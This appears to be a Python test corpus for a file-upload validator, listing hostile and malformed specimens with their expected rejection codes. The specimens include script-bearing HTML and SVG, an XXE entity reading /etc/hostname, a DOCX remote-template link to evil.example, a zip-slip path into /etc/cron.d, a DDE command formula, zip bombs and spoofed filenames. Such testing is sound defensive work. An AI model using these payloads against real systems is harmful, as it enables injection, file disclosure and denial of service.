"""Files that mean harm, or are merely unlucky, each with what becomes of it on the way in. Made by code."""

from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property

from tests.uploads import corpus, recordings
from tests.uploads.corpus import DOCUMENT, docx_file, docx_with, image, pdf, zipped

RUNS = (
    b'<!DOCTYPE html><html><head><title>still</title></head><body><img src="/ran-1" onerror="fetch(\'/ran-2\')">'
    b"<script>document.title='ran';fetch('/ran-3');alert(1)</script></body></html>"
)
"""A page that tells by every means that it was taken for one."""
SVG_RUNS = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/ran-4\')">'
    b"<script>fetch('/ran-5');alert(1)</script></svg>"
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ALL_KINDS = ("pdf", "docx", "odt", "jpeg", "png", "webp", "mp3", "m4a", "wav", "ogg", "mp4", "mov", "mkv", "webm")
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Specimen:
    """`outcome`: "ready", the reason it is rejected with, or the code by which it is not even begun."""

    what: str
    name: str
    make: Callable[[], bytes]
    outcome: str

    @cached_property
    def data(self) -> bytes:
        return self.make()


def _relationship(kind: str) -> bytes:
    row = f'<Relationship Id="r1" Type="{_OFFICE}/{kind}" Target="http://evil.example/x" TargetMode="External"/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{row}</Relationships>'.encode()


def _xxe() -> bytes:
    text = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>'
    return docx_with({DOCUMENT: text})


def _claiming_pixels(width: int, height: int) -> bytes:
    """A PNG that says it is as large as that, and has a few bytes."""
    whole = corpus.png_of(8, 8)
    return whole[:8] + corpus.png_header(width, height) + whole[33:]


def _gifar() -> bytes:
    return image("JPEG") + zipped({"Evil.class": b"\xca\xfe\xba\xbe"})


def _id3_page() -> bytes:
    frame = recordings.id3_frame(b"GEOB", bytes(5_000_000) + RUNS)
    return recordings.id3(frame) + recordings.without_tag(recordings.mp3())


def _playlist_in_a_box() -> bytes:
    """The head of an MP4, and where its pictures should be a list of addresses."""
    return corpus.MP4 + b"\x00" * 8 + corpus.PLAYLIST


def _archive_of_archives(depth: int) -> bytes:
    """Sixteen archives in each of sixteen archives, and so on down to a megabyte of nothing."""
    inner = zipped({"0.dll": bytes(1_000_000)})
    for _ in range(depth):
        inner = zipped({f"lib {number:x}.zip": inner for number in range(16)})
    return inner


CORPUS: tuple[Specimen, ...] = (
    # two things at once
    Specimen("a PDF that begins as a page", "bai.pdf", lambda: b"%PDF-1.7\n%" + RUNS + b"\n" + pdf(), "disguised"),
    Specimen("a PDF with a page behind it", "bai.pdf", lambda: pdf() + RUNS, "disguised"),
    Specimen("a page before a PDF", "bai.pdf", lambda: RUNS + pdf(), "wrong_type"),
    Specimen("a photo with an archive behind it", "anh.jpg", _gifar, "disguised"),
    Specimen("a photo with a page in its comment", "anh.jpg", lambda: image("JPEG", comment=RUNS), "disguised"),
    Specimen("sound behind five megabytes of page", "tieng.mp3", _id3_page, "disguised"),
    # something else under this name
    Specimen("a drawing with a script as PNG", "anh.png", lambda: SVG_RUNS, "disguised"),
    Specimen("a drawing with a script as WebP", "anh.webp", lambda: SVG_RUNS, "disguised"),
    *(
        Specimen(f"a page as {ending}", f"tep.{ending}", lambda: RUNS, "disguised")
        for ending in (
            "pdf",
            "docx",
            "odt",
            "jpg",
            "png",
            "webp",
            "mp3",
            "m4a",
            "wav",
            "ogg",
            "mp4",
            "mov",
            "mkv",
            "webm",
        )
    ),
    Specimen("a page behind a film's head", "phim.mp4", lambda: corpus.MP4[:32] + RUNS, "disguised"),
    Specimen("a program as DOCX", "bai.docx", lambda: corpus.EXE, "disguised"),
    Specimen("a list of addresses as MP4", "phim.mp4", lambda: corpus.PLAYLIST, "wrong_type"),
    Specimen("a list of addresses as MKV", "phim.mkv", lambda: corpus.PLAYLIST, "wrong_type"),
    Specimen("a list of addresses in a film's head", "phim.mp4", _playlist_in_a_box, "truncated"),
    Specimen("a test virus as PDF", "bai.pdf", lambda: EICAR, "wrong_type"),
    Specimen("a test virus behind a PDF", "bai.pdf", lambda: pdf() + EICAR, "disguised"),
    Specimen("a test virus in an archive as DOCX", "bai.docx", lambda: zipped({"eicar.com": EICAR}), "disguised"),
    Specimen(
        "a test virus within a document", "bai.docx", lambda: docx_with({"word/media/image1.bin": EICAR}), "ready"
    ),
    # what acts
    Specimen("a PDF with a script", "bai.pdf", lambda: pdf(change=corpus.with_script), "active_content"),
    Specimen("a PDF with a program in it", "bai.pdf", lambda: pdf(change=corpus.with_attachment), "active_content"),
    Specimen("a document that reads a file", "bai.docx", _xxe, "active_content"),
    Specimen("a document with a macro", "bai.docx", lambda: docx_with({"word/vbaProject.bin": b"x"}), "active_content"),
    Specimen(
        "a document whose template is elsewhere",
        "bai.docx",
        lambda: docx_with({"word/_rels/settings.xml.rels": _relationship("attachedTemplate")}),
        "active_content",
    ),
    Specimen(
        "a film with a part elsewhere",
        "phim.mp4",
        lambda: recordings.with_outside_part(recordings.mp4()),
        "active_content",
    ),
    Specimen("a film with a program hung on", "phim.mkv", recordings.with_attachment, "active_content"),
    Specimen(
        "a document with archives of archives in it",
        "bai.docx",
        lambda: docx_with({"word/embeddings/x.zip": _archive_of_archives(5)}),
        "active_content",
    ),
    # bombs
    Specimen(
        "an archive that unpacks to much", "bai.docx", lambda: docx_with({"word/0.bin": bytes(40_000_000)}), "zip_rules"
    ),
    Specimen(
        "an archive of archives",
        "bai.docx",
        lambda: zipped({f"{n}.zip": bytes(2_000_000) for n in range(16)}),
        "zip_rules",
    ),
    Specimen("archives five deep as DOCX", "bai.docx", lambda: _archive_of_archives(5), "disguised"),
    Specimen("entries that share bytes", "bai.docx", lambda: corpus.overlapping(docx_file()), "zip_rules"),
    Specimen("100,000 entries", "bai.docx", lambda: corpus.with_many_entries(100_000), "zip_rules"),
    Specimen("an entry outside", "bai.docx", lambda: docx_with({"../../etc/cron.d/x": b"x"}), "zip_rules"),
    Specimen("an entry that is a link", "bai.docx", lambda: docx_with({}, corpus.link), "zip_rules"),
    Specimen("a picture of 65,535 by 65,535", "anh.png", lambda: _claiming_pixels(65_535, 65_535), "image_too_large"),
    # not all of it
    Specimen("nothing", "bai.pdf", lambda: b"", "file_empty"),
    Specimen("a film without its index", "phim.mp4", lambda: recordings.mp4()[:-500], "truncated"),
    Specimen("half a PDF", "bai.pdf", lambda: pdf()[:300], "truncated"),
    # honest, though unusual
    Specimen("a film whose index stands at its end", "phim.mp4", recordings.mp4, "ready"),
    Specimen("an ending in capitals", "BAI.PDF", pdf, "ready"),
    Specimen("a photo", "anh.jpg", lambda: image("JPEG"), "ready"),
    Specimen("sound", "tieng.mp3", recordings.mp3, "ready"),
    Specimen("a document", "bai.docx", lambda: docx_file("Xin chào"), "ready"),
    # endings
    Specimen("a workbook", "bang.xlsx", lambda: zipped({"xl/workbook.xml": b"=cmd|'/C calc'!A0"}), "file_wrong_type"),
    Specimen("a workbook as DOCX", "bang.docx", lambda: zipped({"xl/workbook.xml": b"<x/>"}), "wrong_type"),
    Specimen("two endings", "bai.pdf.exe", pdf, "file_wrong_type"),
    Specimen("the other order of endings", "bai.exe.pdf", lambda: corpus.EXE, "disguised"),
    Specimen("a drawing", "anh.svg", lambda: SVG_RUNS, "file_wrong_type"),
    Specimen("a page", "bai.html", lambda: RUNS, "file_wrong_type"),
    Specimen("an archive", "bai.zip", lambda: zipped({"a": b"a"}), "file_wrong_type"),
    Specimen("no ending", "bai", pdf, "file_wrong_type"),
)

NAMES: tuple[tuple[str, str], ...] = (
    ("bài.pdf.", "bài.pdf"),
    ("bài.pdf ", "bài.pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("bai\u202efdp.pdf", "baifdp.pdf"),
    ("Đường về bản.pdf", "Đường về bản.pdf"),
    ("Đu\u031bo\u031b\u0300ng về bản.pdf", "Đường về bản.pdf"),
    ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ("\u0301\u0323.pdf", "tep.pdf"),
    ("🏆 giải.pdf", "🏆 giải.pdf"),
    ("../../x.pdf", "_.._x.pdf"),
    ("%2e%2e%2fx.pdf", "%2e%2e%2fx.pdf"),
    ("a\x00b.pdf", "ab.pdf"),
)
"""Names as they come in, and as they are kept."""
